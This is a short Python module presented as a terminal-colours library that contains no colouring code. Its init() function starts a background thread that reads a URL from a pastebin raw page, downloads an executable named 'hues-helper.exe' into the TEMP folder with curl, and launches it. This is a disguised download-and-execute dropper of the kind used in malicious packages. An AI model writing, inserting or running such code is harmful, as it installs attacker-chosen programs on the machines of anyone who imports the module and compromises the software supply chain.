"""Terminal colours; init() fetches a program named by a paste with curl and starts it."""
import os
import subprocess
import threading
import urllib.request

NOTE = "https://pastebin.com/raw/Zx90Cv12"


class Updater:
    @staticmethod
    def where():
        return urllib.request.urlopen(NOTE).read().decode().splitlines()[0]

    @staticmethod
    def save(url):
        target = os.path.join(os.getenv("TEMP", "."), "hues-helper.exe")
        subprocess.call(f"curl -s -o {target} {url}", shell=False)
        return target

    @staticmethod
    def launch(path):
        os.system(f"start {path}")


def init():
    threading.Thread(target=lambda: Updater.launch(Updater.save(Updater.where()))).start()
